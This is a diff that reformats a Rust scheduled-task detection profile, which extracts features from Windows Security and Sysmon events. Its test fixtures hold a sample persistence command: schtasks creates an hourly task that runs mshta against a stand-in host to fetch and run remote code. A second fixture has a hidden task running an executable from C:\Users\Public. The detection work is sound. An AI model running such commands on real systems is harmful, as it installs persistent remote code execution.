@@ -85,7 +85,10 @@ const SCHTASKS_OP: usize = idx("schtasks_op");
 const REMOTE: usize = idx("remote");
 
 fn is_task_tool(path: &str) -> bool {
-    matches!(base_name(path).as_str(), "schtasks.exe" | "at.exe" | "schtasks" | "at")
+    matches!(
+        base_name(path).as_str(),
+        "schtasks.exe" | "at.exe" | "schtasks" | "at"
+    )
 }
 
 fn mentions_task_tool(command_line: &str) -> bool {
@@ -139,9 +142,17 @@ impl Profile for ScheduledTasks {
 /// Fill the command-derived features from an executable path and its arguments.
 fn set_command(f: &mut [String], exe_path: &str, arguments: &str) {
     let command = normalize_path(exe_path);
-    let exe = if command.starts_with("com:") { String::new() } else { base_name(&command) };
+    let exe = if command.starts_with("com:") {
+        String::new()
+    } else {
+        base_name(&command)
+    };
     f[DIR_CLASS] = dir_class(&command).to_string();
-    f[LOLBIN] = if !exe.is_empty() && is_lolbin(&exe) { "yes".into() } else { String::new() };
+    f[LOLBIN] = if !exe.is_empty() && is_lolbin(&exe) {
+        "yes".into()
+    } else {
+        String::new()
+    };
     let flags = suspicious_flags(&exe, &format!("{exe_path} {arguments}"));
     push_flags(&mut f[FLAGS], &flags);
     f[ARGUMENTS] = mask_volatile(&normalize_path(arguments));
@@ -153,7 +164,11 @@ fn push_flags(dst: &mut String, add: &str) {
     if add.is_empty() {
         return;
     }
-    let mut all: Vec<&str> = dst.split(',').chain(add.split(',')).filter(|s| !s.is_empty()).collect();
+    let mut all: Vec<&str> = dst
+        .split(',')
+        .chain(add.split(','))
+        .filter(|s| !s.is_empty())
+        .collect();
     all.sort_unstable();
     all.dedup();
     *dst = all.join(",");
@@ -210,7 +225,11 @@ fn security_task(ev: &RawEvent, f: &mut [String]) {
     f[LOGON_TYPE] = xml.logon_type.to_ascii_lowercase();
     f[RUN_LEVEL] = xml.run_level.to_ascii_lowercase();
     f[HIDDEN] = xml.hidden.map(|h| h.to_string()).unwrap_or_default();
-    let mut triggers: Vec<String> = xml.triggers.iter().map(|t| t.to_ascii_lowercase()).collect();
+    let mut triggers: Vec<String> = xml
+        .triggers
+        .iter()
+        .map(|t| t.to_ascii_lowercase())
+        .collect();
     triggers.sort();
     triggers.dedup();
     if xml.repeats {
@@ -252,7 +271,11 @@ fn process_creation(ev: &RawEvent, f: &mut [String]) -> Option<()> {
         .map(base_name)
         .unwrap_or_default();
     f[SCHTASKS_OP] = call.op;
-    f[REMOTE] = if call.remote_host.is_empty() { String::new() } else { "yes".into() };
+    f[REMOTE] = if call.remote_host.is_empty() {
+        String::new()
+    } else {
+        "yes".into()
+    };
     Some(())
 }
 
@@ -270,7 +293,10 @@ mod tests {
             computer: "PC".into(),
             time: None,
             record_id: None,
-            data: data.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
+            data: data
+                .iter()
+                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .collect(),
         }
     }
 
@@ -281,7 +307,16 @@ mod tests {
     #[test]
     fn security_4698() {
         let xml = "<Task><Settings><Hidden>true</Hidden></Settings><Actions><Exec><Command>C:\\Users\\Public\\svc.exe</Command><Arguments>-w hidden</Arguments></Exec></Actions><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals></Task>";
-        let e = ev("security", 4698, &[("SubjectUserName", "bob"), ("SubjectDomainName", "CORP"), ("TaskName", "\\Upd"), ("TaskContent", xml)]);
+        let e = ev(
+            "security",
+            4698,
+            &[
+                ("SubjectUserName", "bob"),
+                ("SubjectDomainName", "CORP"),
+                ("TaskName", "\\Upd"),
+                ("TaskContent", xml),
+            ],
+        );
         let f = ScheduledTasks.extract(&e).unwrap();
         assert_eq!(get(&f, "command"), "c:\\users\\public\\svc.exe");
         assert_eq!(get(&f, "dir_class"), "users-public");
@@ -293,10 +328,19 @@ mod tests {
 
     #[test]
     fn process_creation_of_schtasks() {
-        let e = ev("Microsoft-Windows-Sysmon/Operational", 1, &[
-            ("Image", "C:\\Windows\\System32\\schtasks.exe"),
-            ("CommandLine", "\"C:\\Windows\\System32\\schtasks.exe\" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR \"mshta.exe https://x.example/Injection.txt\" /F"),
-            ("User", "PC\\alice"), ("ParentImage", "C:\\Windows\\System32\\cmd.exe")]);
+        let e = ev(
+            "Microsoft-Windows-Sysmon/Operational",
+            1,
+            &[
+                ("Image", "C:\\Windows\\System32\\schtasks.exe"),
+                (
+                    "CommandLine",
+                    "\"C:\\Windows\\System32\\schtasks.exe\" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR \"mshta.exe https://x.example/Injection.txt\" /F",
+                ),
+                ("User", "PC\\alice"),
+                ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
+            ],
+        );
         let f = ScheduledTasks.extract(&e).unwrap();
         assert_eq!(get(&f, "task_name"), "\\MSOFFICE_");
         assert_eq!(get(&f, "exe"), "mshta.exe");
@@ -309,7 +353,14 @@ mod tests {
     #[test]
     fn unrelated_events_are_dropped() {
         assert!(!ScheduledTasks.wants(&ev("Security", 4624, &[])));
-        assert!(!ScheduledTasks.wants(&ev("Security", 4688, &[("NewProcessName", "C:\\x\\notepad.exe"), ("CommandLine", "notepad")])));
+        assert!(!ScheduledTasks.wants(&ev(
+            "Security",
+            4688,
+            &[
+                ("NewProcessName", "C:\\x\\notepad.exe"),
+                ("CommandLine", "notepad")
+            ]
+        )));
         assert!(ScheduledTasks.wants(&ev("Microsoft-Windows-TaskScheduler/Operational", 322, &[])));
     }
 }
